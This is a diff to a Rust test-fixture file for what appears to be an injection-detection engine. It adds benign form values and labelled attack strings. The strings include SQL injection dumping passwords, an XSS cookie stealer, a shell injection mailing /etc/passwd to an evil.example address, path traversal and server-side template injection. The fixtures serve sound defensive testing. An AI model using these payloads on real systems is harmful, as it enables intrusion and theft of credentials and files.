@@ -13,6 +13,31 @@ pub const PROSE: &[u8] = b"Thanks for the quick reply! We'd like to move the mee
 /// A plain attack.
 pub const ATTACK: &[u8] = b"1' union select null,concat(login,0x3a,password) from users-- -";
 
+/// Other values of forms, and 80 bytes of prose.
+pub const BENIGN: [(&str, &[u8]); 6] = [
+    ("e-mail", b"anna.schmidt@mail.example"),
+    ("id", b"8f14e45f-ceea-467a-9a36-dedd4bea2543"),
+    ("number", b"1763712000"),
+    ("search", b"oak table 120 cm"),
+    ("address", b"12 St. Mary's Road, Dublin 4"),
+    (
+        "prose-80",
+        b"Please leave the parcel with the neighbours at no. 12, they're home all evening.",
+    ),
+];
+
+/// Other plain attacks.
+pub const ATTACKS: [(&str, &[u8]); 4] = [
+    ("attack-html", b"\"><img src=x onerror=alert(document.cookie)>"),
+    ("attack-shell", b"127.0.0.1; cat /etc/passwd | mail me@evil.example"),
+    ("attack-path", b"../../../../etc/passwd"),
+    ("attack-template", b"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
+];
+
+/// The languages that the engine reads.
+pub const LANGUAGES: [&str; 8] =
+    ["sql", "shell", "html", "script", "path", "url", "code", "template"];
+
 /// A JSON body of about 1 KB, like those that shops send.
 pub const ORDER: &[u8] = include_bytes!("order.json");
 
